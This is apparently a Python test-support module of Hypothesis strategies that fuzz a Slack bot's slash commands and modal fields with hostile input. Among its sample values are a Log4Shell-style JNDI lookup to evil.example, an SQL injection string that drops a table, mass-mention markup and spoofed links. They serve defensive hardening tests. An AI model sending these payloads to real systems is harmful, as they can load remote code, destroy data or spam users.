"""Hypothesis strategies for hostile Slack input: command texts and modal field values.

Texts are built from tokens a person (or an attacker) might type: subcommands and slugs,
Slack's mention/channel/link syntax (what the client sends when someone picks a user),
`&<>`, unicode (any code point, plus the awkward ones: zero-width, bidi, NUL, NBSP),
numbers (huge, negative, NaN, grouped, with currency symbols, suffixes), dates and periods,
key=value pairs, and a few huge strings; joined by assorted whitespace.

Live markup an attacker would want echoed uses recognisable targets (evil.example, S0EVIL)
so a test can tell it apart from markup the bot writes itself.
"""

from __future__ import annotations

from hypothesis import strategies as st

from llmgov.commands.decide import KEYS
from tests.hardening.conftest import ADMIN, BACKUP, MEMBER, NEWBIE, OWNER, STRANGER

USERS = (OWNER, BACKUP, MEMBER, STRANGER, ADMIN, NEWBIE, "U0ANA0001", "W0ENTERP1", "U0NOBODY9")

SUBCOMMANDS = (
    "register", "claim", "assign", "backup", "budget", "retire", "list", "show", "gaps",
    "help", "mine", "all", "public", "team:search", "team:", "@ana", "tokens_per_month",
)  # fmt: skip
SLUGS = (
    "search-summaries",
    "SEARCH-SUMMARIES",
    "query-rewrite",
    "search-embeddings",
    "support-llama",
    "content-image-captions",
    "hostile-workload",
    "no-such-workload",
    "-bad-",
    "a" * 65,
)
HOSTILE_MARKUP = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S0EVIL|@admins>",
    "<http://evil.example/x|click me>",
    "<https://evil.example>",
    "<mailto:boss@evil.example|boss>",
    "<!date^1700000000^{date_short}|Nov 14>",
    "&lt;!channel&gt;",
    "&amp;",
    "<",
    ">",
    "&",
    "<<>>",
    "`<!here>`",
    "*<!channel>*",
)
AWKWARD = (
    "\u200b",  # zero-width space
    "\u00a0",  # no-break space
    "\u202e",  # right-to-left override
    "\ufeff",  # byte order mark
    "\x00",
    "\r\n",
    "\t",
    "é",
    "e\u0301",  # e + combining acute
    "🚀",
    "👩🏽‍💻",
    "ｆｕｌｌｗｉｄｔｈ",
    "١٢٣",  # Arabic-Indic digits
    "１２３",  # full-width digits
    "İ",
    "ß",
    "`",
    "*",
    "_",
    "~",
    "\\",
    '"',
    "'",
    "%s",
    "{0}",
    "{{ x }}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE workloads; --",
)
HUGE = ("a" * 5000, "9" * 5000, "<@U0HOWNER01>" * 400, "&<>" * 2000, "x " * 20_000)
NUMBER_WORDS = (
    "0", "-0", "-1", "0.001", "1e308", "1e-308", "-1e308", "NaN", "nan", "inf", "-Infinity",
    "4,000.50", "4.000,50", "$4,000", "€12", "£0.01", "4k", "2B", "1.5M", "10T", "0x10",
    "1_000", "٣", "1/3", "99999999999999999999999999999", "1e999", ".5", "5.", "+5",
)  # fmt: skip
PERIOD_WORDS = (
    "7d", "30d", "90d", "0d", "-5d", "99999999999999999999d", "mtd", "last-month",
    "2026-02", "2026-13", "0000-00", "9999-12", "2026-02-30", "1970-01", "2026-W07", "Q1",
)  # fmt: skip
KEY_NAMES = (*KEYS, "team", "feature", "customer", "scope", "", "tokens", "x", "slug")

numbers = st.one_of(
    st.sampled_from(NUMBER_WORDS),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)
dates = st.one_of(
    st.sampled_from(PERIOD_WORDS),
    st.dates().map(lambda d: d.isoformat()),
    st.dates().map(lambda d: d.strftime("%Y-%m")),
    st.integers(min_value=-(10**6), max_value=10**12).map(lambda n: f"{n}d"),
)
# What Slack sends as a user id (the user picker, the mention autocomplete): up to 11
# characters. Typed text can hold longer look-alikes, which test the columns' limits
# (Person.slack_id is String(32); only PostgreSQL enforces it).
user_ids = st.one_of(st.sampled_from(USERS), st.from_regex(r"[UW][A-Z0-9]{2,10}", fullmatch=True))
typed_ids = st.from_regex(r"[UW][A-Z0-9]{2,40}", fullmatch=True)
emails = st.one_of(
    st.sampled_from(["ana.silva@northwind.example", "new.person@example.com", "x@y", "@", "a@"]),
    st.builds(lambda n: "a" * n + "@example.com", st.integers(min_value=1, max_value=400)),
)
mentions = st.one_of(
    user_ids.map(lambda u: f"<@{u}>"),
    st.tuples(user_ids, st.text(max_size=12)).map(lambda t: f"<@{t[0]}|{t[1]}>"),
    st.sampled_from(["<#C0SEARCH01|search>", "<#C0SEARCH01>", "<#CZZZ|>", "<@>", "<@|x>"]),
)
unicode_text = st.text(max_size=40)
words = st.one_of(
    st.sampled_from(SUBCOMMANDS),
    st.sampled_from(SLUGS),
    st.from_regex(r"[a-z0-9][a-z0-9-]{0,30}", fullmatch=True),
)
key_values = st.builds(
    lambda key, separator, value: f"{key}{separator}{value}",
    st.sampled_from(KEY_NAMES),
    st.sampled_from(["=", ":", "==", "= ", " ="]),
    st.one_of(numbers, words, dates, st.sampled_from(HOSTILE_MARKUP), unicode_text),
)
token = st.one_of(
    words,
    words,  # commands are mostly words: weight them up
    mentions,
    st.sampled_from(HOSTILE_MARKUP),
    numbers,
    dates,
    key_values,
    key_values,
    st.sampled_from(AWKWARD),
    unicode_text,
)
separators = st.sampled_from([" ", " ", " ", "  ", "\t", "\n", " \u00a0", "\u3000", ""])


def sentences(
    heads: st.SearchStrategy[str], args: st.SearchStrategy[str]
) -> st.SearchStrategy[str]:
    """Text that follows a command's grammar loosely: a head word, then a few arguments."""
    return st.builds(
        lambda head, rest: " ".join([head, *rest]),
        heads,
        st.lists(args, max_size=3),
    )


_scopes = st.one_of(
    st.sampled_from(SLUGS),
    st.sampled_from(["all", "team:search", "team:hostile", "team:nope", "feature:result-summaries",
                     "customer:all", "customer:<!here>", "workload:search-summaries", "user:x"]),
    mentions,
)  # fmt: skip
_owner_changes = st.one_of(
    st.builds(lambda sub, slug: f"{sub} {slug}", st.sampled_from(["claim", "retire", "show"]),
              st.sampled_from(SLUGS)),
    st.builds(lambda sub, slug, who: f"{sub} {slug} {who}", st.sampled_from(["assign", "backup"]),
              st.sampled_from(SLUGS), mentions | emails | typed_ids),
    st.builds(lambda slug, amount: f"budget {slug} {amount}", st.sampled_from(SLUGS), numbers),
)  # fmt: skip
GRAMMARS = {
    "/llm-owner": _owner_changes
    | sentences(
        st.sampled_from(SUBCOMMANDS),
        st.one_of(
            st.sampled_from(SLUGS),
            mentions,
            numbers,
            st.sampled_from(HOSTILE_MARKUP),
            st.sampled_from(["USD", "EUR", "CHF", "usd", "XXX", "team:search", "mine"]),
        ),
    ),
    "/llm-cost": sentences(_scopes, st.one_of(dates, _scopes, st.just("public"))),
    "/llm-decide": sentences(
        st.one_of(st.sampled_from(SLUGS), key_values, st.just("help")),
        st.one_of(key_values, key_values, st.sampled_from(SLUGS)),
    ),
}


@st.composite
def command_texts(draw, command: str | None = None) -> str:
    """The text after `/llm-…`: the command's grammar, loose tokens, or a huge string."""
    if draw(st.integers(min_value=0, max_value=49)) == 0:
        return draw(st.sampled_from(HUGE))
    if command is not None and draw(st.booleans()):
        return draw(GRAMMARS[command])
    parts = draw(st.lists(st.tuples(token, separators), max_size=8))
    text = "".join(word + separator for word, separator in parts)
    if draw(st.booleans()):
        text = text.strip()
    return text


def field_values(
    valid: st.SearchStrategy[str] | None = None, *, empty_is_valid: bool = False
) -> st.SearchStrategy[str | None]:
    """One text input of a modal: empty (None), a valid value, or anything.

    Mostly valid, so that whole forms pass often enough to reach what comes after them."""
    anything = st.one_of(st.none(), command_texts(), st.sampled_from(HOSTILE_MARKUP), numbers)
    if valid is None:
        return anything
    if empty_is_valid:
        return st.one_of(st.none(), valid, valid, anything)
    return st.one_of(valid, valid, anything)


__all__ = ["HOSTILE_MARKUP", "USERS", "command_texts", "field_values", "user_ids"]
